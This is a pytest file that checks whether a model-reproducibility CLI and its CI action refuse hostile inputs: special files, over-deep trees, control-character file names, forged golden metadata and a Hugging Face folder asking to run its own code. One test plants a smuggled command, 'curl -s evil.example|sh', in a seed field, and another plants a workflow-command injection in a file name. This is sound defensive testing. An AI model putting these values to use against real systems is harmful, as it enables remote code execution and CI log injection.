"""Spec files and folders of specs as a pull request could shape them: special files, deep or oddly named trees,
writable folders over a folder of specs, a golden's recorded seed, a Hugging Face folder asking to run its code.
Each through the real CLI, the Action's step (stand-in docker) or the launch policy."""

import os
import subprocess
import sys

import pytest

from helpers import reprocheck, write_spec
from stand_in import action, calls

SPEC = "version: 1\nmodel: {factory: 'planted:seeded_init'}\ninput: {random: {shape: [2, 8]}}\n"


def test_a_fifo_or_a_device_in_a_folder_of_specs_is_refused_not_read(tmp_path):
    (tmp_path / "specs").mkdir()
    os.mkfifo(tmp_path / "specs" / "fifo.yaml")
    r = reprocheck("validate", "specs", cwd=tmp_path, timeout=60)  # a FIFO read would block forever
    assert r.code == 2 and "fifo.yaml: not a regular file" in r.err, r
    os.unlink(tmp_path / "specs" / "fifo.yaml")
    (tmp_path / "specs" / "zero.yaml").symlink_to("/dev/zero")  # an endless read
    r = reprocheck("validate", "specs", cwd=tmp_path, timeout=60)
    assert r.code == 2 and "zero.yaml: not a regular file" in r.err, r


def test_a_file_name_with_a_control_character_is_refused(tmp_path):
    (tmp_path / "specs").mkdir()
    (tmp_path / "specs" / "x\n::error title=PWNED::injected.yaml").write_text(SPEC)
    r = reprocheck("validate", "specs", cwd=tmp_path)
    assert r.code == 2 and "a control character" in r.err and "\n::error" not in r.out + r.err, r


def test_a_tree_deeper_than_pythons_recursion_is_walked(tmp_path):
    deep = tmp_path / "specs"
    deep.mkdir()
    for _ in range(1100):  # one by one: makedirs itself recurses
        deep = deep / "d"
        deep.mkdir()
    (deep / "a.yaml").write_text("version: 1\nmodel: {torchvision: resnet18}\ninput: {random: {shape: [1, 3, 8, 8]}}\n")
    try:
        r = reprocheck("validate", "specs", cwd=tmp_path)
        assert r.code == 0 and "ok  a" in r.out, r
    finally:  # removed bottom up: pytest's own clean-up of old temporary folders recurses and would fail on it
        (deep / "a.yaml").unlink()
        while deep != tmp_path:
            deep.rmdir()
            deep = deep.parent


@pytest.mark.parametrize("output", ["report=specs/report.json", "baseline=specs", "junit=specs/sub/j.xml"])
def test_a_folder_of_specs_is_never_writable_in_the_container(fake, output):
    (fake.ws / "specs" / "sub").mkdir()
    write_spec(fake.ws / "specs" / "sub", "version: 1\n", "b.yaml")
    name, value = output.split("=")
    r = action(fake, spec="specs", **{name: value})
    assert r.returncode == 1 and "holds the spec" in r.stdout and calls(fake) == [], r.stdout


def test_a_goldens_recorded_seed_must_be_a_seed(spec_dir):
    write_spec(spec_dir, SPEC)
    assert reprocheck("run", "spec.yaml", "--baseline", "g", "--update-baseline", cwd=spec_dir).code == 0
    (golden,) = (spec_dir / "g").rglob("*.safetensors")
    forged = "5 --update-baseline; curl -s evil.example|sh #\n::error::x"
    code = (
        "import sys; from safetensors import safe_open; from safetensors.torch import save_file\n"
        "f = safe_open(sys.argv[1], 'pt'); meta = dict(f.metadata()); meta['reprocheck.seed'] = sys.argv[2]\n"
        "save_file({k: f.get_tensor(k) for k in f.keys()}, sys.argv[1], metadata=meta)\n"
    )
    subprocess.run([sys.executable, "-c", code, str(golden), forged], check=True)
    r = reprocheck("run", "spec.yaml", "--baseline", "g", cwd=spec_dir)
    assert r.code == 2 and "recorded seed is not a seed" in r.err and "curl" not in r.err, r


def test_two_reports_in_one_file_are_refused(spec_dir):
    write_spec(spec_dir, SPEC)
    r = reprocheck("run", "spec.yaml", "--report", "out.xml", "--junit", "out.xml", cwd=spec_dir)
    assert r.code == 2 and "--junit out.xml is also --report's file" in r.err, r


def test_a_hugging_face_folder_asking_to_run_its_code_neither_runs_it_nor_hangs(tmp_path):
    folder = tmp_path / "hf"
    folder.mkdir()
    marker = tmp_path / "ran"
    (folder / "config.json").write_text(
        '{"model_type": "no-such-type", "auto_map": {"AutoConfig": "evil.Config", "AutoModel": "evil.Model"}}'
    )
    (folder / "evil.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    write_spec(
        tmp_path,
        "version: 1\ntimeout: 60\nmodel: {huggingface: {class: AutoModel, path: hf}}\n"
        "input: {kwargs: {input_ids: {random: {shape: [1, 4], dtype: int64, low: 0, high: 50}}}}\n",
    )
    for command, codes in ((["run"], (3,)), (["validate", "--deep"], (0, 2))):  # the run reports the folder
        r = reprocheck(*command, "spec.yaml", cwd=tmp_path, timeout=180)  # a prompt on stdin would wait here
        assert r.code in codes and "Traceback (most recent call last)" not in r.err, r
    assert not marker.exists()
